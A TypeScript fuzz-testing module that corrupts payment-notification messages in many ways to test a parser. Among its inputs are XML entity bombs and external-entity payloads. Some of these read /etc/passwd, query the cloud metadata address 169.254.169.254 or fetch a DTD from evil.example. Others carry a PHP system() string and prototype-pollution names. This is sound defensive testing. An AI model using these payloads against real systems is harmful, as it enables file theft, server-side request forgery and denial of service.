import { membersOf, render, textOf, withText } from "./json-members"
import { notifications } from "./notifications"
import { oddJson, oddText, pollution } from "./odd-values"
import type { Random } from "./random"

type Damage = (message: string, random: Random) => string

const DATA = "NotificationData"

/** The XML, or whatever is in its place, changed; everything else as it was. */
const inData = (message: string, change: (xml: string) => string) => {
  const members = membersOf(message)
  return render(withText(members, DATA, change(textOf(members, DATA))))
}

const within = (xml: string, piece: string, random: Random) => {
  // Mostly between two elements, where it is read; else anywhere.
  const gaps = [...xml.matchAll(/></g)].map(({ index }) => index + 1)
  const at = gaps.length > 0 && random.chance(0.7) ? random.pick(gaps) : random.position(xml)
  return xml.slice(0, at) + piece + xml.slice(at)
}

const laughs =
  '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">'

/** Document types with entities that grow, fetch or nest, and a reference to them. */
const bombs: readonly [doctype: string, reference: string][] = [
  [`<!DOCTYPE x [${laughs}]>`, "&e;"],
  [`<!DOCTYPE x [<!ENTITY a "${"a".repeat(20_000)}">]>`, "&a;".repeat(2_000)],
  ['<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"],
  ['<!DOCTYPE x [<!ENTITY a SYSTEM "http://169.254.169.254/latest/meta-data/">]>', "&a;"],
  ['<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/a.dtd">%a;]>', ""],
  ['<!DOCTYPE x SYSTEM "https://evil.example/a.dtd">', ""],
  ['<!DOCTYPE x [<!ENTITY a "&a;">]>', "&a;"],
  ['<!doctype x [<!ENTITY amp "<State>Completed</State>">]>', "&amp;"],
  [`<!DOCTYPE x [${laughs}`, "&e;"],
]

const pieces: readonly string[] = [
  "<!-- -->",
  "<!--",
  "<![CDATA[<State>Completed</State>]]>",
  "<![CDATA[",
  "<?xml version='1.0'?>",
  "<?php system('x') ?>",
  "&#0;",
  "&#xd800;",
  "&#x110000;",
  "&#99999999999;",
  "&unknown;",
  "&",
  "<__proto__><polluted>true</polluted></__proto__>",
  "<constructor><prototype><polluted>1</polluted></prototype></constructor>",
  "<State>Completed</State>",
  "<Amount>1E99</Amount>",
  "<Amount>1E999999999</Amount>",
  "<Amount>-0x10</Amount>",
  "<Amount>٣</Amount>",
  "<CurrencyCode>usd</CurrencyCode>",
  '<a b="<"/>',
  "<a:b:c/>",
  "<1/>",
  "</a>",
  "<a",
  "\0",
]

const types: readonly string[] = [
  "PAYMENT capture",
  "\tPayment Refund\n",
  "chargeback",
  "__proto__",
  "constructor",
  "toString",
  "x".repeat(10_000),
]

export const messageDamage: Readonly<Record<string, Damage>> = {
  "an entity bomb": (message, random) => {
    const [doctype, reference] = random.pick(bombs)
    return inData(message, (xml) => {
      const declared = xml.replace(/(\?>|^)/, `$1${doctype}`)
      return declared.replace(/<State>[^<]*/, `<State>${reference}`)
    })
  },
  "something in the XML": (message, random) =>
    inData(message, (xml) => within(xml, random.pick([...pieces, ...oddText]), random)),
  "the XML cut short": (message, random) =>
    inData(message, (xml) => xml.slice(0, random.position(xml))),
  "a piece of the XML lost or twice": (message, random) =>
    inData(message, (xml) => {
      const from = random.position(xml)
      const to = from + random.below(120)
      return xml.slice(0, to) + xml.slice(random.chance(0.5) ? from : to + random.below(60))
    }),
  "two names of elements swapped": (message, random) =>
    inData(message, (xml) => {
      const names = [...xml.matchAll(/<(\w+)/g)].map(([, name]) => name ?? "")
      if (names.length === 0) return xml
      const [one, two] = [random.pick(names), random.pick(names)]
      return xml
        .replaceAll(`${one}>`, "?>")
        .replaceAll(`${two}>`, `${one}>`)
        .replaceAll("?>", `${two}>`)
    }),
  "the XML in itself": (message, random) =>
    inData(message, (xml) => within(xml, xml.replace(/^<\?.*?\?>/, ""), random)),
  "much of an element": (message, random) => {
    const piece = random.pick([
      "<a/>",
      "<Id>a</Id>",
      "<a b='c'/>",
      "x<b/>",
      "<!---->",
      "&#65;",
      "<a>",
    ])
    return inData(message, (xml) => within(xml, piece.repeat(random.below(8_000)), random))
  },
  "a field lost": (message, random) => {
    const members = membersOf(message)
    const lost = random.pick(members)
    return render(members.filter((member) => member !== lost))
  },
  "a field of another type": (message, random) => {
    const members = membersOf(message)
    const changed = random.pick(members)
    const value = JSON.stringify(random.pick(oddJson))
    return render(members.map((member) => (member === changed ? { ...member, value } : member)))
  },
  "a field with something in it": (message, random) => {
    const members = membersOf(message)
    const name = JSON.parse(random.pick(members).key) as string
    const text = textOf(members, name)
    const at = random.position(text)
    return render(
      withText(members, name, text.slice(0, at) + random.pick(oddText) + text.slice(at)),
    )
  },
  "a field of another message": (message, random) => {
    const other = membersOf(random.pick(notifications))
    const { key, value } = random.pick(other)
    return render([...membersOf(message), { key, value }])
  },
  "names that mean something": (message, random) =>
    message.replace("{", `{${random.pick(pollution)},`),
  "another type": (message, random) =>
    render(withText(membersOf(message), "NotificationType", random.pick(types))),
  "of version 2": (message, random) =>
    render(
      withText(
        membersOf(message),
        random.pick(["NotificationVersion", "notificationversion"]),
        "V2",
      ),
    ),
  "bits flipped": (message, random) => {
    const bytes = Buffer.from(message)
    const at = random.below(bytes.length)
    bytes[at] = (bytes[at] ?? 0) ^ (1 << random.below(8))
    return bytes.toString()
  },
  "data that is JSON": (message, random) => {
    const depth = random.below(3_000)
    const data = random.pick([
      `${'{"a":['.repeat(depth)}1${"]}".repeat(depth)}`,
      `{"ChargebackDetails":{${random.pick(pollution)},"ChargebackAmount":{"Amount":1e400,"CurrencyCode":[]}}}`,
      `{"AmazonChargebackId":${JSON.stringify(random.pick(oddText))},"ChargebackState":1}`,
    ])
    const value = random.chance(0.5) ? data : JSON.stringify(data)
    return render([...membersOf(message), { key: `"${DATA}"`, value }])
  },
}
